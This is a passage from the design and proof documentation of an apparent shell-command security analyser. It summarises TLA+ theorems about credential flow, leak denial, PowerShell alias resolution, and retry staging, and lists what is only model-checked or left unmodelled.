  not conservative belongs to an analysis that ran to its end, with its budget not
  exhausted and both counters back at zero.  This is the safety half of
  `AlwaysAnswers`: running out is never silent.
* `ReportsOnlyGrow`: no action, a return that puts an earlier state back included,
  drops an effect or takes back that the result is conservative.

### Secret flow: `SecretFlow_proofs`

For every set of programs over a set of statements that satisfies `SyntaxAssumption`,
and every set of paths, variables and labels that satisfies `NamesAssumption`:

* `TypeCorrect` (`SecretSoundness!TypeOK`).  `Typed` adds that each queued egress is
  the index of an effect and what each frame holds, `ShellTyped` the shell's files.
* `LabelsNeverShrink` (`LabelsOnlyGrow`).  Not inductive by itself: an action
  that returns from a call works on a suffix of the effects whose start was stored
  in a frame when the call began.  The invariant `StackOK` says that each stored
  position still lies within the list and that the shape of each frame is what
  its return expects; `Extends` is the order on lists of effects that every
  pass respects (`RelabelExtends`, `PassesExtend`, `BindExtends`, `EndExtends`).
* `NeverFabricates` (`NothingFabricated`).  The invariant `Clean` extends the
  claim to the labels saved in frames and to the last substitution, which the next
  step copies into the state.
* `MergingLosesNothing` (`MergeKeepsFindings`), for programs that name each scope
  they touch (`NamedScopes`).  A pair of effects is a pair of rows, and the rows of
  remote writes only add to it; that a read of the environment is one of a
  credential (`EnvReadsMarked`) has to be carried along.  Without `NamedScopes` it is
  false, and `secret_absorbed` shows how.
* `RequestsStayClean` (`NoSpread`).  `Floor` says that no call in progress reaches
  back before the statement it is part of, and that a top-level statement starts
  without an input; `Quiet` that the effects of a statement that asks and sends
  nothing are requests and remain so, since a pass over such a list changes nothing
  (`PassesAsk`).

### PowerShell names: `PsAliases_proofs`

For every set of names, functions, built-in aliases and operands that satisfies
`NamesAssumption`: `TypeCorrect`, `TablesStayInAgreement` (`TablesAgree`),
`NamesAreFaithful` (`CallsAreFaithful`) and `DoubtIsNeeded` (`NoNeedlessDoubt`).
What a call is reported as says nothing about options, on which later refusals
depend, so the claims are not inductive: `IInv` adds that both tables agree on
targets and options (`TablesAgree`), that what flows down a pipeline is what was
enumerated (`PipelinesAgree`), and that a name is in doubt only when its built-in
alias was removed (`DoubtHasCause`).  One lemma per kind of change says that it
tracks the name it touches (`DeclareTracks`, `RemoveTracks`, `CopyTracks`), one per
action applies it, and `StepAgrees` says what a step owes for both invariants.  The
session's resolution is any function that follows its table (`Resolutions`), so
nothing is computed by recursion.

### From effects to a decision: `AnalysisSoundness_proofs`

For every set of straight-line programs, every extension, every policy `New`
accepts with grades that rise, and every table of shares, widths and credentials
(`PathsAssumption`, `CallsAssumption`, `PolicyAssumption`, `StagingAssumption`):

* `TypeCorrect`.  The rows are labelled effects, one of a kind (`NormalizedRows`),
  and each dimension of the score has its range (`GradeType`).
* `DeedsAreExplained` (`EveryDeedIsExplained`).  The invariant is `IInv`: the report is
  that of the program, and the run is `Honest`.  Among what `Honest` says, each deed
  is that of a derivation of the program; a derivation's atom is cited by the row its
  effect was merged into (`DerivationCited`).
* `LeaksAreDenied` (`LeakIsDenied`).  `Honest` traces bytes through the run: a
  credential's bytes are elsewhere only if some effect reads a credential, and
  reached a share only if some effect writes one.  Such a program has a pair
  (`LeakIsPaired`), and a pair is denied because the strongest rule wins
  (`StrongestIsMax`).
* `DecisionsNeverSoften` (`DecisionNeverSoftens`).  `Below` orders sets of rows;
  normalising, adding sinks, scoring and each rule are monotone in it
  (`NormalizeIsMonotone`, `RowsGrow`, `GradeGrows`, `RulesGrow`).  `Extended` says
  what the two reports that are compared are reports of.
* `CanonicalFormIsDurable` (`CanonicalIsDurable`).  That a file is new says nothing
  about when it was written, and the exception is about that.  The invariant
  `LastWritten` adds, for each file the program wrote, a call that wrote it after
  which no call moved it away.  `StagedWasMoved`, by induction over the fold of
  `stagingDestinations`, says what the canonical form takes for staged; a file that
  is both was written again after it was moved.

* `UnknownCodeIsNotAllowed` (stated there only): a report that says some code is not
  known is not allowed by any policy `New` accepts, whatever the caller made of the
  other rules, because the rule for unknown code cannot be configured to allow and
  no other rule lowers what the strongest decides (`RulesAre`, `StrongestIsMax`).

### The key of a retry: `AnalysisRetry_proofs`

A blocked `cmd > f` comes back as `cmd > tmp; mv tmp f`.  Under the assumptions of
the previous module, for every program, command and staging name:

* `OrdinaryRetryKeepsKey`, an action property: each step that stages the output of a
  call leads to a state with `RetryKeepsKey`, when the call is `Stageable` (not the
  sink of a pipeline, not a move the program makes again) and the name a `PlainName`
  (neither a share nor a host, nor `cat`).  Section 4 says what happens otherwise;
  the other conditions are guards of the action `Retry`.
* `RetriesKeepTheKey`: `RetryKeepsKey` is an invariant when the programs and names
  are such (`OrdinaryRetries`).  `MCAnalysis` states `OrdinaryRetries` as an
  assumption, so TLC evaluates it on each of the programs of the run: the theorem
  is about them too.

The two programs have different effects, rows, sinks and staging maps, and the same
canonical rows.  The argument follows the three passes:

1. *Effects.*  `Restages(S, T, tmp, d)`: the two sets of effects say the same of every
   name, except that `T` may touch `tmp`, and may write it only where `S` writes `d`
   in a row of the same kind, mode and role.  `StagedEffects` says that the staged
   program adds a write and a move of `tmp`, `BoundRestages` that what is bound is so
   related, and `ReportRestages` that what is merged and given its remote sinks still
   is: `tmp`, being plain, adds no sink and no payload.
2. *Staging.*  `stagingDestinations` is a fold over the recorded calls.
   `StagedRecorded` aligns the calls the two programs record, `PairVisited` says what
   the two calls that replace one do, and `Beside`, kept by every later call
   (`BesideVisit`, `MovingTwice`), that the second fold knows what the first one knows
   and the move of `tmp` besides: `StagedMoves`.
3. *Rows.*  With that move, `canonicalTarget` sends `tmp` to its destination in writes
   and drops it elsewhere: each row of one canonical form has a row of the other with
   its kind, mode and scope (`RestagedRowsMatch`), and normalising rows so matched
   yields one key (`SinglesMatch`, `KeyOfRows`).

### Model-checked only, and why

* Liveness is beyond the prover: `AlwaysAnswers`, `ParseEnds`, the liveness part of
  `ImplementsRequest`, and the fairness of each specification.
* `NoSilentMiss`, `DecidedIsExact` (bash), `LeakIsCritical` (secrets): they compare
  two machines over the programs of the run, and are false of the programs which
  section 4 lists.  A theorem would need each of these exclusions as a condition on
  a tree and on the states it passes through; the runs have them as the programs
  they leave out.
* Every property of `JsSoundness` and `PsSoundness`: the evaluators and their
  references call each other by recursion over the tree, and the prover neither
  unfolds a recursive operator nor does induction over trees.

## 6. Plan, and what is not modelled

Built: the merge every report passes through, the only concurrent part and the
request it implements, the bash interpreter with its tables of names and its
soundness statement, the flow of credentials, the resolution of PowerShell names
and the lowering around it, the JavaScript evaluator, and the way from effects to a
decision.

Left, in this order:

1. Proofs: `NoSilentMiss` for a fragment of bash without loops, functions and
   background jobs, where the two machines take the same path through the tree.
2. Hazards no property covers, for the code violates what such a property would
   say: the output label of a substitution taken before the staging rule
   (`exec.go:2002`), a background job analysed where it starts (`exec.go:922`), and
   chains of aliases (`front/ps/lower.go:762`).

Not modelled, and why:

* `front/bash/normalize.go`, `glob.go`, `engine/hostshape.go`: peeling wrappers,
  splitting bundles of options, patterns and shapes of hosts.  They keep no state,
  and their correctness is about characters.
* The option rows and subcommand grammars of `bind`, the tables of `kb`, YAML and
  JSON codecs: they map spellings to effects row by row; a model would copy the
  tables.
* Parsing (mvdan.cc/sh, tree-sitter): third-party code outside `src/`.
* `api`, `cmd/flowsh`, `internal/corpus`: flags, files and output, and test support.
